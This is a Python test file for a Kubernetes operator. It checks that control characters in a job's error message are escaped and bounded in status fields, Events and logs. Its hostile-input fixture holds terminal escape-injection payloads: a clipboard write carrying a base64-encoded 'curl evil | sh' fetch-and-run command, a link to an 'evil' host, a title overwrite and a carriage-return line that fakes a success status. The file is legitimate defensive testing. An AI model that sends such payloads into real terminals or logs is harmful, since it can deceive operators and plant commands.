"""ESC, BEL, OSC and every other control character from a job's error reach status, conditions,
Events and the operator's log escaped (and bounded): ``kubectl describe`` never runs them."""

from __future__ import annotations

import datetime as dt
import json
import logging
from typing import Any

import pytest

from lading_operator import k8s, main
from lading_operator import reconcile as rc
from lading_spec.controls import escape_controls
from lading_spec.job import encode_result

NOW = dt.datetime(2026, 1, 1, 12, 0, tzinfo=dt.UTC)
# What a tenant's raise_error('...') can say: a colour, a clipboard write (OSC 52), a link (OSC 8),
# a title (OSC 0 ended by BEL), a carriage return that overprints, a C1 CSI, a bidi override.
HOSTILE = ("boom \x1b[31mred\x1b[0m \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\ "
           "\x1b]0;pwned\x07\rStatus: Succeeded \x9b2J \u202eevil\u202c\nsecond line\tend")
RAW = set("\x1b\x07\r\x9b\u202e\u202c")


def job(status: dict[str, Any]) -> dict[str, Any]:
    return {"apiVersion": "lading.io/v1alpha1", "kind": "CopyJob",
            "metadata": {"name": "exp", "namespace": "ns", "uid": "uid-1", "generation": 1,
                         "creationTimestamp": "2026-01-01T11:00:00Z"},
            "spec": {"from": {"query": "SELECT 1 AS x"}, "to": {"files": "s3://out/x/", "format": "csv"}},
            "status": status}


def failed_with(message: str) -> rc.Plan:
    """The planner on a run whose driver wrote ``message`` (the job's result JSON) as its termination log."""
    app = {"metadata": {"name": "exp-copyjob-r1-1", "namespace": "ns"},
           "status": {"applicationState": {"state": "FAILED"}}}
    pod = {"metadata": {"name": "exp-copyjob-r1-1-driver"},
           "status": {"containerStatuses": [{"name": "spark-kubernetes-driver",
                                             "state": {"terminated": {"exitCode": 1, "message": message}}}]}}
    running = {"phase": "Running", "runId": "r1", "attempts": 1, "sparkApplication": "exp-copyjob-r1-1",
               "startTime": "2026-01-01T11:59:00Z"}
    return rc.plan(rc.Observed(job(running), app, pod, True, NOW))


def controls_in(text: str) -> set[str]:
    return RAW & set(text)


def test_a_jobs_error_arrives_escaped_in_status_conditions_history_and_events() -> None:
    plan = failed_with(encode_result({"error": HOSTILE}))  # exactly what the driver writes
    assert plan.phase == "Failed"
    error = plan.status["response"]["error"]
    assert not controls_in(error) and "\\x1b[31mred" in error and "\\x07" in error and "\\x9b" in error
    assert "\\x0dStatus: Succeeded" in error and "\\u202eevil" in error
    assert "\nsecond line\tend" in error  # a multi-line field keeps newline and tab
    messages = [c["message"] for c in plan.status["conditions"]]
    assert messages and all(not controls_in(m) and "\\x1b]52;" in m for m in messages if "boom" in m)
    assert any("boom" in m for m in messages)
    for entry in plan.status.get("lastRuns") or []:
        assert not controls_in(json.dumps(entry, ensure_ascii=False))
    assert plan.events
    resource = job({})
    for type_, reason, message in plan.events:
        body = k8s.event_body(resource, type_, reason, message)
        assert not controls_in(body["message"]) and "\n" not in body["message"], body["message"]
    failed = [k8s.event_body(resource, *e)["message"] for e in plan.events if "boom" in e[2]]
    assert failed and "\\x1b]0;pwned\\x07" in failed[0] and "\\x0a" in failed[0]  # one line per Event


def test_escaped_text_is_still_bounded() -> None:
    plan = failed_with(json.dumps({"error": "\x1b" * 100_000}))
    error = plan.status["response"]["error"]
    assert len(error) < 5000 and "\x1b" not in error and "characters cut" in error
    assert len(k8s.event_message("\x07" * 10_000)) <= k8s.EVENT_MESSAGE_LIMIT


@pytest.mark.parametrize("code", [*range(0x20), *range(0x7f, 0xa0), 0x2028, 0x2029, *range(0x202a, 0x202f),
                                  *range(0x2066, 0x206a)])
def test_every_c0_and_c1_control_and_bidi_override_is_escaped(code: int) -> None:
    out = escape_controls(f"a{chr(code)}b")
    assert chr(code) not in out and out.startswith("a\\") and out.endswith("b")
    assert escape_controls("plain text, ünïcode ✓ and \\x1b as written") == "plain text, ünïcode ✓ and \\x1b as written"


def test_operator_log_records_are_escaped(caplog: pytest.LogCaptureFixture) -> None:
    handler = logging.StreamHandler()
    handler.addFilter(main.EscapeControls())
    record = logging.LogRecord("lading_operator.x", logging.WARNING, __file__, 1, "run failed: %s", (HOSTILE,), None)
    for f in handler.filters:
        f.filter(record)  # type: ignore[union-attr]
    message = record.getMessage()
    assert not controls_in(message) and "\n" not in message and "\\x1b[31mred" in message


def test_a_stream_drivers_progress_answer_reaches_status_without_controls() -> None:
    """The operator reads a StreamCopy driver's /progress (an answer treated as hostile): its free
    text is escaped, and a key holding a control character is not taken at all."""
    from lading_spec.streamprogress import status_fields

    out = status_fields({"lastBatch": {"time": "2026-01-01T00:00:00Z", "rows": 1, "range": "t/0 \x1b]0;x\x07"},
                         "offsets": {"t:0": 5, "t\x1b[2J:1": 7}, "topicIds": {"t\x07": None}})
    assert out["lastBatch"]["range"] == "t/0 \\x1b]0;x\\x07"
    assert out["offsets"] == {"t:0": 5} and "topicIds" not in out
